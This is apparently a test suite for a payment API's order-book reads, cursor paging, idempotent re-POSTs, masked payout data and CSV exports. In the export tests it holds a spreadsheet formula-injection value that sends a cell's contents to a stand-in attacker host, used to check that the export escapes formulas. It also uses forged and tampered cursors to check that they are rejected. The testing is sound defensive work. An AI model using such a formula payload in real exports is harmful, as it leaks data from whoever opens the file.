/**
 * What the API answers from the order book alone (issue 13): GET of an order, the lists and their
 * cursors, a re-POST of a known mrn, and the CSV exports — over real HTTP on the run's dev server,
 * with rows written straight into the book (as the workflows' recordOrder writes them), no workflow
 * behind them and no worker polling the API's task queue. Anything that reached Temporal for these
 * orders would find nothing (404) or wait for a worker that never comes (a 202 "creating").
 */
import type { Client } from '@temporalio/client';
import type { FastifyInstance } from 'fastify';
import pino from 'pino';
import { Pool } from 'pg';
import { buildApp } from '../../src/api/app';
import { apiSettings } from '../../src/api/settings';
import { OrderBook } from '../../src/book/order-book';
import { loadConfig } from '../../src/config';
import { paymentWorkflowId } from '../../src/contracts/payment';
import { payoutWorkflowId } from '../../src/contracts/payout';
import { API_ENV, startTestApi, type TestApi } from '../helpers/api';
import { openTestBook, type TestBook } from '../helpers/book';
import { testMrn } from '../helpers/orders';
import { http, postJson, type HttpAnswer } from '../helpers/support';
import { devServerClient, uniqueName } from '../helpers/temporal';
import { paymentBody, paymentRecord, payoutBody, payoutRecord, privateWindow, type PaymentRow, type PayoutRow } from './book-orders';
import { parseCsv } from './csv-parse';

let api: TestApi;
let book: TestBook;
let client: Client;
const taskQueue = uniqueName('book-api');

beforeAll(async () => {
  // Nobody polls this task queue: an order started on it would never leave 'creating'.
  api = await startTestApi({ TEMPORAL_TASK_QUEUE: taskQueue });
  book = openTestBook();
  client = await devServerClient();
});

afterAll(async () => {
  await client?.connection.close();
  await book?.close();
  await api?.close();
});

const auth = () => ({ authorization: `Bearer ${api.apiToken}` });
const get = (path: string, headers: Record<string, string> = auth()): Promise<HttpAnswer> => http(`${api.url}${path}`, { headers });
const post = (path: string, body: unknown): Promise<HttpAnswer> => postJson(`${api.url}${path}`, body, auth());
const timed = async (run: () => Promise<HttpAnswer>): Promise<HttpAnswer & { ms: number }> => {
  const started = performance.now();
  const answer = await run();
  return { ...answer, ms: performance.now() - started };
};

async function recordPayment(row: PaymentRow) {
  const record = paymentRecord(row);
  expect(await book.book.record(record)).toBe(true);
  return record;
}

async function recordPayout(row: PayoutRow) {
  const record = payoutRecord(row);
  expect(await book.book.record(record)).toBe(true);
  return record;
}

/** That no run exists for the workflow ID: the API did not start one. */
async function expectNoRun(workflowId: string): Promise<void> {
  await expect(client.workflow.getHandle(workflowId).describe()).rejects.toMatchObject({ name: 'WorkflowNotFoundError' });
}

describe('GET of an order answers from the book, with no run behind it', () => {
  test('a pay-in: the view as the workflow recorded it', async () => {
    const record = await recordPayment({ mrn: testMrn('P'), status: 'succeeded', amountFen: 10_050 });

    const answer = await get(`/v1/payments/${record.mrn}`);

    expect(answer.status).toBe(200);
    expect(answer.json()).toEqual(record.view);
    await expectNoRun(paymentWorkflowId(record.mrn));
  });

  test('a page-mode pay-in keeps its signed checkout link', async () => {
    const record = await recordPayment({ mrn: testMrn('P'), status: 'pending', mode: 'page' });

    const answer = await get(`/v1/payments/${record.mrn}`);

    expect(answer.status).toBe(200);
    const { checkoutUrl, ...view } = answer.json<{ checkoutUrl: string }>();
    expect(view).toEqual(record.view);
    expect(checkoutUrl).toMatch(new RegExp(`/checkout/payments/${record.mrn}\\?expires=[0-9]+&sig=`));
  });

  test('a payout: account data masked, never in clear', async () => {
    const record = await recordPayout({ mrn: testMrn('W'), status: 'failed', accountName: '张三丰', accountNumber: '6222021234567890123' });

    const answer = await get(`/v1/payouts/${record.mrn}`);

    expect(answer.status).toBe(200);
    expect(answer.json()).toEqual(record.view);
    expect(answer.json()).toMatchObject({ accountName: '张**', accountNumber: '****0123' });
    expect(answer.text).not.toContain('6222021234567890123');
    expect(answer.text).not.toContain('张三丰');
  });

  test("a reconciliation's finding is in the flags of the order it found wrong", async () => {
    const record = await recordPayment({ mrn: testMrn('P'), status: 'succeeded' });
    await book.book.markReconciliationDifference('payment', record.mrn, 'ours succeeded, the platform says 2 (failed)');

    const answer = await get(`/v1/payments/${record.mrn}`);

    expect(answer.json()).toMatchObject({ status: 'succeeded', needsAttention: true, attentionReasons: ['ReconciliationDiffers: ours succeeded, the platform says 2 (failed)'] });
  });

  test('an mrn neither the book nor Temporal knows is a 404 naming it', async () => {
    const mrn = testMrn('P');

    const answer = await get(`/v1/payments/${mrn}`);

    expect(answer.status).toBe(404);
    expect(answer.json()).toEqual({ error: 'not_found', message: `no pay-in with mrn ${mrn}` });
  });
});

describe('the lists answer from the book', () => {
  const window = privateWindow();
  const range = `createdFrom=${encodeURIComponent(window.from.toISOString())}&createdTo=${encodeURIComponent(window.to.toISOString())}`;
  const payments: PaymentRow[] = [
    { mrn: testMrn('P'), status: 'succeeded', amountFen: 10_050, createdAt: window.at(1_000) },
    { mrn: testMrn('P'), status: 'pending', amountFen: 1, createdAt: window.at(2_000) },
    { mrn: testMrn('P'), status: 'succeeded', amountFen: 9_950, paidAmountFen: 9_900, amountMismatch: true, needsAttention: true, attentionReasons: ['AmountMismatch'], createdAt: window.at(3_000) },
    { mrn: testMrn('P'), status: 'expired', channelId: 5, createdAt: window.at(4_000) },
    { mrn: testMrn('P'), status: 'succeeded', late: true, createdAt: window.at(5_000) },
    { mrn: testMrn('P'), status: 'failed', createdAt: window.at(6_000) },
    { mrn: testMrn('P'), status: 'pending', createdAt: window.at(7_000) },
  ];
  const newestFirst = [...payments].reverse().map((row) => row.mrn);
  const payouts: PayoutRow[] = [
    { mrn: testMrn('W'), status: 'succeeded', amountFen: 50_000, createdAt: window.at(1_500) },
    { mrn: testMrn('W'), status: 'pending', amountFen: 1_000_000, createdAt: window.at(2_500) },
  ];

  beforeAll(async () => {
    for (const row of payments) await recordPayment(row);
    for (const row of payouts) await recordPayout(row);
  });

  async function walk(path: string, from: string | null = null): Promise<{ mrns: string[]; pages: number }> {
    const mrns: string[] = [];
    let pages = 0;
    let cursor = from;
    do {
      const answer = await get(`${path}${cursor === null ? '' : `&cursor=${cursor}`}`);
      expect(answer.status).toBe(200);
      const page = answer.json<{ items: { mrn: string }[]; nextCursor: string | null }>();
      mrns.push(...page.items.map((item) => item.mrn));
      pages += 1;
      cursor = page.nextCursor;
    } while (cursor !== null && pages < 20);
    return { mrns, pages };
  }

  test('nextCursor walks every order once, newest first, a page at a time', async () => {
    const { mrns, pages } = await walk(`/v1/payments?${range}&pageSize=3`);

    expect(mrns).toEqual(newestFirst);
    expect(pages).toBe(3);
  });

  test('an order created while a client pages neither shifts the pages nor shows twice', async () => {
    const first = (await get(`/v1/payments?${range}&pageSize=3`)).json<{ items: { mrn: string }[]; nextCursor: string }>();
    const newer = await recordPayment({ mrn: testMrn('P'), createdAt: window.at(8_000) });
    try {
      const rest = await walk(`/v1/payments?${range}&pageSize=3`, first.nextCursor);

      expect([...first.items.map((item) => item.mrn), ...rest.mrns]).toEqual(newestFirst);
    } finally {
      await book.pool.query("DELETE FROM orders WHERE kind = 'payment' AND mrn = $1", [newer.mrn]);
    }
  });

  test('the items: amounts in yuan from integer fen, flags, times; closedAt is when the order finished', async () => {
    const { items } = (await get(`/v1/payments?${range}&pageSize=100`)).json<{ items: Record<string, unknown>[] }>();

    expect(items.find((item) => item.mrn === payments[2].mrn)).toEqual({
      mrn: payments[2].mrn,
      status: 'succeeded',
      amount: '99.50',
      channelId: 2,
      amountMismatch: true,
      needsAttention: true,
      late: false,
      createdAt: window.at(3_000),
      closedAt: window.at(3_000),
    });
    expect(items.find((item) => item.mrn === payments[1].mrn)).toMatchObject({ amount: '0.01', closedAt: null });
    expect(items.find((item) => item.mrn === payments[4].mrn)).toMatchObject({ late: true });

    const payoutPage = (await get(`/v1/payouts?${range}`)).json<{ items: Record<string, unknown>[] }>();
    expect(payoutPage.items).toEqual([
      { mrn: payouts[1].mrn, status: 'pending', amount: '10000', amountMismatch: false, needsAttention: false, createdAt: window.at(2_500), closedAt: null },
      { mrn: payouts[0].mrn, status: 'succeeded', amount: '500', amountMismatch: false, needsAttention: false, createdAt: window.at(1_500), closedAt: window.at(1_500) },
    ]);
  });

  test.each([
    ['status=pending', [payments[6], payments[1]]],
    ['needsAttention=true', [payments[2]]],
    ['amountMismatch=true', [payments[2]]],
    ['amountMismatch=false&status=succeeded', [payments[4], payments[0]]],
    ['channelId=5', [payments[3]]],
  ])('filtered: %s', async (filter, expected) => {
    const { mrns } = await walk(`/v1/payments?${range}&${filter}&pageSize=1`);

    expect(mrns).toEqual(expected.map((row) => row.mrn));
  });

  test('bounds at the edges of the years the book holds (0000, 9999, +14:00) list the same orders', async () => {
    const wide = await walk(`/v1/payments?createdFrom=0000-01-01T00:00:00Z&createdTo=${encodeURIComponent(window.to.toISOString())}&status=failed&pageSize=100`);
    const late = await get(`/v1/payments?createdFrom=9999-12-31T23:59:59.999-14:00&pageSize=1`);

    expect(wide.mrns).toContain(payments[5].mrn);
    expect(late.status).toBe(200);
    expect(late.json()).toEqual({ items: [], nextCursor: null });
  });

  test('the next page may be asked with another page size', async () => {
    const first = (await get(`/v1/payments?${range}&pageSize=2`)).json<{ nextCursor: string }>();

    const rest = await walk(`/v1/payments?${range}&pageSize=100`, first.nextCursor);

    expect(rest).toEqual({ mrns: newestFirst.slice(2), pages: 1 });
  });

  describe('a cursor this list did not make is a 400 naming cursor, at once', () => {
    let cursor: string;
    beforeAll(async () => {
      cursor = (await get(`/v1/payments?${range}&pageSize=1`)).json<{ nextCursor: string }>().nextCursor;
    });

    test.each([
      ['typed by hand', () => `/v1/payments?${range}&cursor=${encodeURIComponent('>3k')}`],
      ['forged (well-formed, not sealed by us)', () => `/v1/payments?${range}&cursor=${Buffer.from(JSON.stringify(['2001-01-01T00:00:00.000Z', 'P'])).toString('base64url')}`],
      ['tampered', () => `/v1/payments?${range}&pageSize=1&cursor=${cursor.slice(0, -3)}${cursor.endsWith('AAA') ? 'BBB' : 'AAA'}`],
      ['from the same kind with other filters', () => `/v1/payments?${range}&status=pending&pageSize=1&cursor=${cursor}`],
      ['from the other kind of order', () => `/v1/payouts?${range}&pageSize=1&cursor=${cursor}`],
    ])('%s', async (_what, path) => {
      const answer = await timed(() => get(path()));

      expect(answer.status).toBe(400);
      expect(answer.json()).toEqual({ error: 'bad_request', message: expect.stringMatching(/cursor/) });
      expect(answer.ms).toBeLessThan(1_000);
    });
  });
});

describe('a re-POST of an mrn the book knows is answered from the book, never by starting a workflow', () => {
  test('a pay-in: the same body is a retry (200, its view), another body a 409', async () => {
    const row: PaymentRow = { mrn: testMrn('P'), status: 'succeeded', amountFen: 12_345, notifyUrl: 'https://shop.example.com/notify' };
    const record = await recordPayment(row);

    const retry = await post('/v1/payments', paymentBody(row));
    const other = await post('/v1/payments', { ...paymentBody(row), amount: '123.46' });

    expect(retry.status).toBe(200);
    expect(retry.json()).toEqual(record.view);
    expect(other.status).toBe(409);
    expect(other.json()).toEqual({ error: 'conflict', message: `mrn ${row.mrn} already names a different pay-in request` });
    await expectNoRun(paymentWorkflowId(row.mrn));
  });

  test('a page-mode pay-in still open: the retry carries its checkout link', async () => {
    const row: PaymentRow = { mrn: testMrn('P'), status: 'pending', mode: 'page' };
    const record = await recordPayment(row);

    const retry = await post('/v1/payments', paymentBody(row));

    expect(retry.status).toBe(200);
    expect(retry.json()).toEqual({ ...record.view, checkoutUrl: expect.stringContaining(`/checkout/payments/${row.mrn}?expires=`) });
    await expectNoRun(paymentWorkflowId(row.mrn));
  });

  test('a payout: the same body is a retry (200, its view), another account a 409', async () => {
    const row: PayoutRow = { mrn: testMrn('W'), status: 'succeeded' };
    const record = await recordPayout(row);

    const retry = await post('/v1/payouts', payoutBody(row));
    const other = await post('/v1/payouts', { ...payoutBody(row), accountNumber: '6222021234567890124' });

    expect(retry.status).toBe(200);
    expect(retry.json()).toEqual(record.view);
    expect(other.status).toBe(409);
    expect(other.json()).toEqual({ error: 'conflict', message: `mrn ${row.mrn} already names a different payout request` });
    await expectNoRun(payoutWorkflowId(row.mrn));
  });

  test('nothing was started on the API task queue', async () => {
    expect((await client.workflow.count(`TaskQueue = "${taskQueue}"`)).count).toBe(0);
  });
});

describe('the CSV exports', () => {
  const window = privateWindow();
  const range = `createdFrom=${encodeURIComponent(window.from.toISOString())}&createdTo=${encodeURIComponent(window.to.toISOString())}`;
  const tricky = 'refused: "amount", see\nline 2';
  const formula = '=HYPERLINK("http://evil.example/?leak="&A1,"click")';
  const payments: PaymentRow[] = [
    { mrn: testMrn('P'), status: 'succeeded', amountFen: 10_050, paidAmountFen: 10_050, channelId: 2, createdAt: window.at(1_000), finishedAt: window.at(61_000), notifyUrl: 'https://shop.example.com/notify', notification: { url: 'https://shop.example.com/notify', deliveries: [{ eventId: 'e1', type: 'payment.succeeded', status: 'delivered', attempts: 1 }] }, lastPlatformAnswer: formula },
    { mrn: testMrn('P'), status: 'succeeded', amountFen: 9_999_999_999_999, paidAmountFen: 1, amountMismatch: true, needsAttention: true, attentionReasons: ['AmountMismatch: paid 0.01, asked 99999999999.99', 'NotificationGaveUp'], createdAt: window.at(2_000), lastPlatformAnswer: tricky },
    { mrn: `-${testMrn('P')}`, status: 'pending', amountFen: 1, channelId: 15, createdAt: window.at(3_000) },
  ];
  const payouts: PayoutRow[] = [
    { mrn: testMrn('W'), status: 'succeeded', amountFen: 50_000, bankName: '中国工商银行', accountName: '张三丰', accountNumber: '6222021234567890123', createdAt: window.at(1_000), lastPlatformAnswer: '@status 1' },
    { mrn: testMrn('W'), status: 'failed', amountFen: 100, bankName: '+招商银行, 深圳"分行"', accountName: 'Li Wei', accountNumber: '123456', createdAt: window.at(2_000) },
  ];

  beforeAll(async () => {
    for (const row of payments) await recordPayment(row);
    for (const row of payouts) await recordPayout(row);
  });

  async function download(path: string, headers: Record<string, string> = auth()) {
    const response = await fetch(`${api.url}${path}`, { headers });
    const bytes = Buffer.from(await response.arrayBuffer());
    return { status: response.status, headers: response.headers, bytes, text: bytes.toString('utf8') };
  }

  test('pay-ins: a BOM, a header row, a CRLF line per order (newest first), decimal amounts, 支付宝 intact', async () => {
    const file = await download(`/v1/exports/payments.csv?${range}`);

    expect(file.status).toBe(200);
    expect(file.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(file.headers.get('content-disposition')).toMatch(/^attachment; filename="payments_\d{4}-\d{2}-\d{2}T\d{6}Z_\d{4}-\d{2}-\d{2}T\d{6}Z\.csv"$/);
    expect([...file.bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const records = parseCsv(file.text.slice(1));
    expect(records[0]).toEqual([
      'mrn', 'status', 'amount', 'paid_amount', 'channel_id', 'channel_name', 'amount_mismatch', 'needs_attention',
      'attention_reasons', 'created_at', 'finished_at', 'last_platform_answer', 'notification_status',
    ]);
    expect(records.slice(1)).toEqual([
      [`'${payments[2].mrn}`, 'pending', '0.01', '', '15', '支付宝群红包 Alipay group red packet', 'false', 'false', '', window.at(3_000), '', '', 'no_url'],
      [payments[1].mrn, 'succeeded', '99999999999.99', '0.01', '2', '支付宝 Alipay', 'true', 'true', 'AmountMismatch: paid 0.01, asked 99999999999.99 | NotificationGaveUp', window.at(2_000), window.at(2_000), tricky, 'no_url'],
      [payments[0].mrn, 'succeeded', '100.50', '100.50', '2', '支付宝 Alipay', 'false', 'false', '', window.at(1_000), window.at(61_000), `'${formula}`, 'delivered'],
    ]);
  });

  test('payouts: masked account data only, amounts as decimal yuan, quoting and the formula guard', async () => {
    const file = await download(`/v1/exports/payouts.csv?${range}`);

    expect(file.status).toBe(200);
    const records = parseCsv(file.text.slice(1));
    expect(records[0]).toEqual([
      'mrn', 'status', 'amount', 'bank_name', 'account_name', 'account_number', 'needs_attention', 'attention_reasons',
      'created_at', 'finished_at', 'last_platform_answer', 'notification_status',
    ]);
    expect(records.slice(1)).toEqual([
      [payouts[1].mrn, 'failed', '1.00', `'+招商银行, 深圳"分行"`, 'L*****', '****3456', 'false', '', window.at(2_000), window.at(2_000), '', 'no_url'],
      [payouts[0].mrn, 'succeeded', '500.00', '中国工商银行', '张**', '****0123', 'false', '', window.at(1_000), window.at(1_000), "'@status 1", 'no_url'],
    ]);
    expect(file.text).not.toContain('6222021234567890123');
    expect(file.text).not.toContain('张三丰');
    expect(file.text).not.toContain('Li Wei');
  });

  test('filtered by status and by a narrower range', async () => {
    const pending = parseCsv((await download(`/v1/exports/payments.csv?${range}&status=pending`)).text.slice(1));
    const narrow = parseCsv((await download(`/v1/exports/payments.csv?createdFrom=${encodeURIComponent(window.at(1_500))}&createdTo=${encodeURIComponent(window.at(2_500))}`)).text.slice(1));

    expect(pending.slice(1).map((record) => record[0])).toEqual([`'${payments[2].mrn}`]);
    expect(narrow.slice(1).map((record) => record[0])).toEqual([payments[1].mrn]);
  });

  test('no order in the range: the header row alone', async () => {
    const empty = privateWindow();

    const file = await download(`/v1/exports/payouts.csv?createdFrom=${encodeURIComponent(empty.from.toISOString())}&createdTo=${encodeURIComponent(empty.to.toISOString())}&status=rejected`);

    expect(file.status).toBe(200);
    expect(file.text).toBe('\ufeffmrn,status,amount,bank_name,account_name,account_number,needs_attention,attention_reasons,created_at,finished_at,last_platform_answer,notification_status\r\n');
  });

  test.each([
    ['createdFrom not a date-time', 'payments', 'createdFrom=yesterday', /^createdFrom: /],
    ['createdTo not a date-time', 'payouts', 'createdTo=2026-13-45T00:00:00Z', /^createdTo: /],
    ['createdTo before createdFrom', 'payments', 'createdFrom=2026-11-02T00:00:00Z&createdTo=2026-11-01T00:00:00Z', /^createdTo: must be after createdFrom/],
    ['createdTo equal to createdFrom', 'payouts', 'createdFrom=2026-11-02T00:00:00Z&createdTo=2026-11-02T08:00:00%2B08:00', /^createdTo: must be after createdFrom/],
    ['a year JavaScript reads but the book cannot', 'payments', 'createdFrom=%2B275760-09-13T00:00:00Z', /^createdFrom: /],
    ['a status the kind does not have', 'payouts', 'status=expired', /status/],
    ['an unknown parameter', 'payments', 'channelId=2', /Unexpected property|querystring/],
    ['a parameter given twice', 'payments', 'status=pending&status=pending', /status/],
  ])('%s: a JSON 400 naming it, before any byte of CSV', async (_what, kind, query, message) => {
    const file = await download(`/v1/exports/${kind}.csv?${query}`);

    expect(file.status).toBe(400);
    expect(file.headers.get('content-type')).toMatch(/^application\/json/);
    expect(JSON.parse(file.text)).toEqual({ error: 'bad_request', message: expect.stringMatching(message) });
  });

  test.each([
    ['no token', {}],
    ['a wrong token', { authorization: 'Bearer not-the-token' }],
    ['the operator token', null],
  ])('%s: 401', async (_what, headers) => {
    const file = await download(`/v1/exports/payments.csv?${range}`, headers ?? { authorization: `Bearer ${api.operatorToken}` });

    expect(file.status).toBe(401);
    expect(JSON.parse(file.text)).toMatchObject({ error: 'unauthorized' });
  });

  test('more orders than the book hands over at once: every one, once, newest first, streamed (chunked, no length known up front)', async () => {
    const many = privateWindow();
    const rows = Array.from({ length: 1_234 }, (_, i): PaymentRow => ({ mrn: `BULK${String(i).padStart(5, '0')}-${many.from.getTime().toString(36)}`, amountFen: 100 + i, createdAt: many.at(i * 10) }));
    for (let i = 0; i < rows.length; i += 50) await Promise.all(rows.slice(i, i + 50).map((row) => book.book.record(paymentRecord(row))));

    const file = await download(`/v1/exports/payments.csv?createdFrom=${encodeURIComponent(many.from.toISOString())}&createdTo=${encodeURIComponent(many.to.toISOString())}`);

    expect(file.status).toBe(200);
    expect(file.headers.get('content-length')).toBeNull();
    expect(file.headers.get('transfer-encoding')).toBe('chunked');
    const records = parseCsv(file.text.slice(1)).slice(1);
    expect(records.map((record) => record[0])).toEqual([...rows].reverse().map((row) => row.mrn));
    expect(records.map((record) => record[2])).toEqual([...rows].reverse().map((row) => (row.amountFen! / 100).toFixed(2)));
  }, 120_000);

  test('/docs shows both exports with their parameters and a text/csv answer', async () => {
    const docs = (await get('/docs/json', {})).json<{ paths: Record<string, { get: { parameters: { name: string; in: string }[]; responses: Record<string, { content?: Record<string, unknown> }> } }> }>();

    for (const path of ['/v1/exports/payments.csv', '/v1/exports/payouts.csv']) {
      const route = docs.paths[path].get;
      expect(route.parameters.filter((p) => p.in === 'query').map((p) => p.name).sort()).toEqual(['createdFrom', 'createdTo', 'status']);
      expect(Object.keys(route.responses['200'].content ?? {})).toEqual(['text/csv']);
      expect(Object.keys(route.responses).sort()).toEqual(['200', '400', '401', '503']);
    }
  });
});

describe('the book out of reach: a 503 that says to retry, never a 500 nor a second order', () => {
  let app: FastifyInstance;
  let url: string;
  let token: string;
  let pool: Pool;

  beforeAll(async () => {
    const config = loadConfig({ ...API_ENV(), TEMPORAL_TASK_QUEUE: taskQueue }, 'api');
    const { apiToken, gateway } = config;
    if (apiToken === undefined || gateway === undefined) throw new Error('loadConfig(api) insists on these');
    token = apiToken;
    // Nothing listens on port 1: every connection is refused at once.
    pool = new Pool({ connectionString: 'postgres://book@127.0.0.1:1/book', connectionTimeoutMillis: 2_000 });
    app = await buildApp({ settings: apiSettings(config, { apiToken, gateway }), client, book: new OrderBook(pool), logger: pino({ level: 'silent' }) });
    await app.listen({ host: '127.0.0.1', port: 0 });
    url = `http://127.0.0.1:${(app.server.address() as { port: number }).port}`;
  });

  afterAll(async () => {
    await app?.close();
    await pool?.end();
  });

  test.each([
    ['GET of an order', 'GET', '/v1/payouts/W-unreachable-book'],
    ['a list', 'GET', '/v1/payments?status=pending'],
    ['an export (JSON, not a cut-off file)', 'GET', '/v1/exports/payments.csv'],
  ])('%s', async (_what, method, path) => {
    const answer = await http(`${url}${path}`, { method: method as 'GET', headers: { authorization: `Bearer ${token}` } });

    expect(answer.status).toBe(503);
    expect(answer.json()).toEqual({ error: 'unavailable', message: 'the order book cannot be reached; retry later' });
  });

  test('a create: 503 with the mrn to retry with, and no workflow started', async () => {
    const mrn = testMrn('W');

    const answer = await postJson(`${url}/v1/payouts`, payoutBody({ mrn }), { authorization: `Bearer ${token}` });

    expect(answer.status).toBe(503);
    expect(answer.json()).toEqual({ error: 'unavailable', mrn, message: expect.stringMatching(/order book cannot be reached.*retry with the same mrn/) });
    await expectNoRun(payoutWorkflowId(mrn));
  });
});
